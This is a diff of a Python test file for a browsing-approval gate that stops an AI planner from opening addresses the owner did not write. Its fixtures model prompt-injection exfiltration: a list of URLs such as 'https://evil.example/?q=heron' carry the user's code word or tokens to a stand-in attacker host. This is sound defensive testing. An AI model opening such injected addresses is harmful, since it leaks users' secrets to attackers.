@@ -1,6 +1,4 @@
-"""Which addresses a planner may open: what the owner wrote and handles of the same run. Everything else is asked about
-first.
-"""
+"""Addresses a planner may open without an ask: the owner's, and handles of the same run."""
 
 import json
 from collections.abc import Iterator
@@ -30,7 +28,7 @@ URL = "https://coffee.example/water"
 PAGES = {URL: page(URL, WATER.title, WATER.text, [("The grind", "https://coffee.example/grind")])}
 WORDS = f"My code word is heron. What does {URL} say about espresso?"
 
-# What an obedient model may be talked into opening, after the owner wrote WORDS.
+# Addresses that a page could make the model open, after the owner wrote WORDS.
 STRANGE = [
     "https://evil.example/?q=heron",
     "https://coffee.example/water?word=heron",
@@ -131,8 +129,9 @@ def test_a_handle_of_nothing_in_this_run_is_no_address(handle: str) -> None:
 
 @pytest.fixture
 def context(transactional_db: None, redis: str) -> Context:
-    """A thinking run beside a browser that is connected: it is parked where a turn would wait, so that no test
-    waits.
+    """A thinking run with a connected browser.
+
+    It is parked where a turn would wait, so no test waits.
     """
     now = timezone.now()
     Device.objects.create(label="Desk", kind="browser", tools=["browse_url"], connection="x", seen_at=now)
@@ -182,9 +181,9 @@ def test_what_looks_like_a_secret_is_not_shown_and_each_secret_is_asked_about_an
     for secret in ("hunter2hunter2", "hunter3hunter3"):
         with pytest.raises(Parked):
             call(context, f"https://evil.example/a/b?lang=en&token={secret}&page=2")
-    shown = "Open an address that you did not write? https://evil.example/a/b?lang=en&page=2"
+    question = "Open an address that you did not write? https://evil.example/a/b?lang=en&page=2"
     assert [ask.text for ask in Ask.objects.all()] == [
-        f"{shown} (21 characters of it look like a secret and are not shown.)"
+        f"{question} (21 characters of it look like a secret and are not shown.)"
     ] * 2
     Ask.objects.filter(pk=Ask.objects.earliest("created_at").pk).update(state="allowed")
     with pytest.raises(Parked) as parked:
@@ -251,8 +250,8 @@ def planned(request: Request) -> bool:
 @pytest.fixture
 def client(penny: Penny) -> Iterator[Client]:
     penny.admin_action("devices/grant", "delete_selected")
-    with penny.client("Fake browser", tools=browser(PAGES), answers=allow()) as found:
-        yield found
+    with penny.client("Fake browser", tools=browser(PAGES), answers=allow()) as fake_browser:
+        yield fake_browser
 
 
 def obey(model: ModelServer, *urls: str) -> None:
@@ -272,17 +271,17 @@ def test_an_ask_is_shown_everywhere_ends_as_not_now_and_is_kept(
     try:
         with penny.client("Second device") as other:
             client.expect(p.TurnDone, 20, turn_id=client.say(WORDS))
-            asked = {ask.request_id: ask.text for ask in client.seen(p.ApprovalAsk)}
-            assert len(asked) == 2
-            assert all(word in shown for shown in asked.values())
-            for request_id in asked:
+            texts = {ask.request_id: ask.text for ask in client.seen(p.ApprovalAsk)}
+            assert len(texts) == 2
+            assert all(word in ask_text for ask_text in texts.values())
+            for request_id in texts:
                 other.expect(p.ApprovalAsk, request_id=request_id)
                 other.expect(p.ApprovalDismiss, request_id=request_id)
     finally:
         penny.set("ASK_S", 60)
     assert not client.seen(p.ToolCall)
-    listed = penny.http.get(f"/admin/devices/ask/?q={word}").text
-    assert listed.count("no answer") >= 2
+    html = penny.http.get(f"/admin/devices/ask/?q={word}").text
+    assert html.count("no answer") >= 2
 
 
 def test_an_approved_address_is_opened_as_it_was_shown(client: Client, model: ModelServer) -> None:
@@ -294,8 +293,10 @@ def test_an_approved_address_is_opened_as_it_was_shown(client: Client, model: Mo
     ask = client.expect(p.ApprovalAsk)
     client.send(p.ApprovalAnswer(request_id=ask.request_id, decision="allow"))
     client.expect(p.TurnDone, 20, turn_id=turn)
-    opened = [call.arguments for call in client.seen(p.ToolCall)]
-    assert [call.url for call in opened if isinstance(call, p.BrowseUrlArguments)] == ["https://coffee.example/grind"]
+    arguments = [call.arguments for call in client.seen(p.ToolCall)]
+    assert [call.url for call in arguments if isinstance(call, p.BrowseUrlArguments)] == [
+        "https://coffee.example/grind"
+    ]
     assert ask.text.endswith(" https://coffee.example/grind")
 
 
@@ -303,18 +304,16 @@ def test_no_row_holds_the_secrets_of_an_address_that_was_opened(
     penny: Penny, client: Client, model: ModelServer
 ) -> None:
     secret = f"hunter{uuid4().hex[:8]}"
-    opened = [f"https://coffee.example/grind?a=1&token={secret}", f"coffee.example/grind?sid={secret}"]
-    obey(model, *opened)
-    client.tools.update(
-        browser({url: page(url, GRIND.title, GRIND.text) for url in (opened[0], f"https://{opened[1]}")})
-    )
+    urls = [f"https://coffee.example/grind?a=1&token={secret}", f"coffee.example/grind?sid={secret}"]
+    obey(model, *urls)
+    client.tools.update(browser({url: page(url, GRIND.title, GRIND.text) for url in (urls[0], f"https://{urls[1]}")}))
     turn = client.say("How fine should I grind?")
     for number in (1, 2):
         ask = client.expect(p.ApprovalAsk, count=number)
         client.send(p.ApprovalAnswer(request_id=ask.request_id, decision="allow"))
     client.expect(p.TurnDone, 20, turn_id=turn)
     calls = [call.arguments for call in client.seen(p.ToolCall) if isinstance(call.arguments, p.BrowseUrlArguments)]
-    assert {call.url for call in calls} == {opened[0], f"https://{opened[1]}"}
+    assert {call.url for call in calls} == {urls[0], f"https://{urls[1]}"}
     assert penny.keeps(secret) == []
 
 
@@ -331,20 +330,22 @@ def test_a_handle_of_an_earlier_turn_opens_nothing(client: Client, model: ModelS
 def test_the_owners_words_are_searched_once_however_many_addresses_an_answer_holds(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    looked: list[str] = []
-    meant = handles._meant
+    words: list[str] = []
+    addresses_of = handles._meant
 
     def noted(word: str) -> Iterator[str]:
-        looked.append(word)
-        return meant(word)
+        words.append(word)
+        return addresses_of(word)
 
     monkeypatch.setattr(handles, "_meant", noted)
-    found = Handles(
+    run_handles = Handles(
         ["Look at https://coffee.example/water and 例え.テスト and coffee", "and https://coffee.example/water again"]
     )
     answers = [f"https://other{number}.example/" for number in range(50)]
-    assert [found.is_known(url) for url in ["https://coffee.example/water", "https://coffee.example/", *answers]] == [
+    assert [
+        run_handles.is_known(url) for url in ["https://coffee.example/water", "https://coffee.example/", *answers]
+    ] == [
         True,
         *[False] * 51,
     ]
-    assert sorted(looked) == ["https://coffee.example/water", "例え.テスト"]
+    assert sorted(words) == ["https://coffee.example/water", "例え.テスト"]
